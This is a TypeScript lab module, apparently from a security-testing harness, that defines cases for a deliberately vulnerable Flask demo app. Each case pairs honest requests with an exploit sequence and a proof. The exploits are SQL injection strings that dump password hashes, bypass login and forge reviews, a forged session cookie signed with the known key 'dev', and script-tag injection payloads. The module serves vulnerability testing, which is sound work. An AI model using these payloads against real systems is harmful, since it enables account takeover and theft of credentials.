/** The demo app, in which all fixes have to get along with each other. What is left of its faults needs a person: a
 *  column that a visitor chooses. */
import type { LabModule, Step } from '../../labModule';

const REGISTER: Step = {
  submit: '/auth/register',
  fill: { username: 'ann', password: 'a-long-password' },
};
const LOGIN: Step = { submit: '/auth/login', fill: { username: 'ann', password: 'a-long-password' } };
const PAYLOAD = '<script>boom()</script>';

export const lab: LabModule = {
  source: 'demo',
  app: 'wsgi',
  prepare: ['init-db'],
  rules: [
    'hardcoded-secret-key',
    'secret-default-fallback',
    'sql-injection',
    'unsafe-markup',
    'jinja-safe-filter',
  ],
  cases: [
    {
      name: 'str.format: log in as somebody else',
      honest: [
        { ...REGISTER, status: 302 },
        { ...LOGIN, status: 302 },
        { to: '/', shows: 'Log out ann' },
        {
          submit: '/auth/login',
          fill: { username: 'ann', password: 'wrong' },
          shows: 'Wrong name or password',
        },
      ],
      exploit: [
        {
          python: [
            'from werkzeug.security import generate_password_hash as h',
            'print(h("mine", "pbkdf2:sha256:9"))',
          ],
          saveAs: 'hash',
        },
        {
          submit: '/auth/login',
          fill: { username: ({ hash }) => `' UNION SELECT 1, '${hash}' --`, password: 'mine' },
        },
        { to: '/' },
      ],
      proof: { body: 'Log out ann' },
    },
    {
      name: 'LIKE: hashes of passwords',
      honest: [
        { to: '/books/search?q=Moby', shows: 'Moby-Dick' },
        { to: '/books/search', shows: 'Frankenstein' },
      ],
      exploit: [
        { to: '/books/search', query: { q: "%' UNION SELECT id, password, username, 1 FROM user --" } },
      ],
      proof: { body: 'scrypt:' },
    },
    {
      name: 'plus: hashes of passwords',
      honest: [
        { to: '/books/by/Mary%20Shelley', shows: 'Frankenstein' },
        { to: '/books/by/nobody', status: 404 },
      ],
      exploit: [{ to: "/books/by/x'%20UNION%20SELECT%20id,password,username,1%20FROM%20user%20--" }],
      proof: { body: 'scrypt:' },
    },
    {
      name: 'percent over two lines: a review by somebody else',
      honest: [
        { ...LOGIN, status: 302 },
        { submit: '/reviews/new/2', fill: { body: 'A whale of a book: 100%', stars: '5' }, status: 302 },
        { to: '/reviews/feed.json', shows: 'A whale of a book: 100%' },
      ],
      exploit: [
        LOGIN,
        { submit: '/reviews/new/1', fill: { body: "x'), (1, 1, 1, 'forged", stars: '5' } },
        { to: '/reviews/feed.json' },
      ],
      proof: { body: '"body":"forged"' },
    },
    {
      name: 'text(): hashes of passwords',
      honest: [
        { ...LOGIN, status: 302 },
        { to: '/reports/loans?branch=Center', shows: 'Center' },
        { to: '/reports/loans' },
      ],
      exploit: [
        LOGIN,
        { to: '/reports/loans', query: { branch: "' UNION SELECT password, username FROM user --" } },
      ],
      proof: { body: 'scrypt:' },
    },
    {
      name: 'a session signed with a key that everybody knows',
      honest: [],
      exploit: [
        {
          python: [
            'import flask',
            'app = flask.Flask("forged")',
            'app.secret_key = "dev"',
            'print(app.session_interface.get_signing_serializer(app).dumps({"user_id": 1}))',
          ],
          saveAs: 'cookie',
        },
        { to: '/', headers: { Cookie: ({ cookie }) => `session=${cookie}` } },
      ],
      proof: { body: 'Log out ann' },
    },
    {
      name: 'Markup round an f-string',
      honest: [
        { ...LOGIN, status: 302 },
        {
          submit: '/books/new',
          fill: { title: 'Emma', author: 'Jane Austen', published: '1815', description: '<p>A match.</p>' },
          status: 302,
        },
        { to: '/', shows: '<em>Emma</em> is on the shelf now.' },
      ],
      exploit: [
        LOGIN,
        {
          submit: '/books/new',
          fill: { title: PAYLOAD, author: 'x', published: '1', description: '' },
        },
        { to: '/' },
      ],
      proof: { body: `<em>${PAYLOAD}</em>` },
    },
    {
      name: 'Markup round a sum',
      honest: [{ to: '/reviews/words?word=whale', shows: '<b>whale</b>: 1 reviews' }],
      exploit: [{ to: '/reviews/words', query: { word: PAYLOAD } }],
      proof: { body: `<b>${PAYLOAD}` },
    },
    {
      name: '|safe: the search term',
      honest: [],
      exploit: [{ to: '/books/search', query: { q: '<script>boom(2)</script>' } }],
      proof: { body: '<script>boom(2)</script>' },
    },
  ],
};
